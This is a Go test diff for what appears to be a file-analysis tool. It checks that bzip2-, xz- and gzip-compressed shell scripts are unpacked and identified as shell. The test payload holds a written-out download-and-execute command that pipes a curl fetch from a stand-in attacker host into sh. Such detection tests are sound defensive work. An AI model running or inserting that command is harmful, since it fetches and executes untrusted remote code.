@@ -7,6 +7,7 @@ import (
 	"encoding/binary"
 	"encoding/hex"
 	"os"
+	"os/exec"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -370,4 +371,32 @@ func FuzzScript(f *testing.F) {
 		}
 		sniffLanguage(decodeTextHead(data, maxTextSniff))
 	})
+}
+
+func TestCompressedPayloads(t *testing.T) {
+	payload := []byte(strings.Repeat("#!/bin/sh\ncurl http://evil.example/x | sh\n", 50))
+	for _, tc := range []struct{ tool, fileType string }{{"bzip2", "bzip2"}, {"xz", "xz"}, {"gzip", "gzip"}} {
+		t.Run(tc.tool, func(t *testing.T) {
+			requireTool(t, tc.tool)
+			cmd := exec.Command(tc.tool, "-c")
+			cmd.Stdin = bytes.NewReader(payload)
+			data, err := cmd.Output()
+			if err != nil {
+				t.Fatal(err)
+			}
+			resp, err := New().Analyze(&modulev1.AnalyzeRequest{Content: data})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if resp.Identification.FileType != tc.fileType {
+				t.Fatalf("type %q", resp.Identification.FileType)
+			}
+			if len(resp.Artifacts) != 1 || !bytes.Equal(resp.Artifacts[0].Content, payload) {
+				t.Fatalf("artifacts = %d, payload mismatch", len(resp.Artifacts))
+			}
+			if Identify(resp.Artifacts[0].Content).FileType != "shell" {
+				t.Errorf("payload not identified as shell")
+			}
+		})
+	}
 }
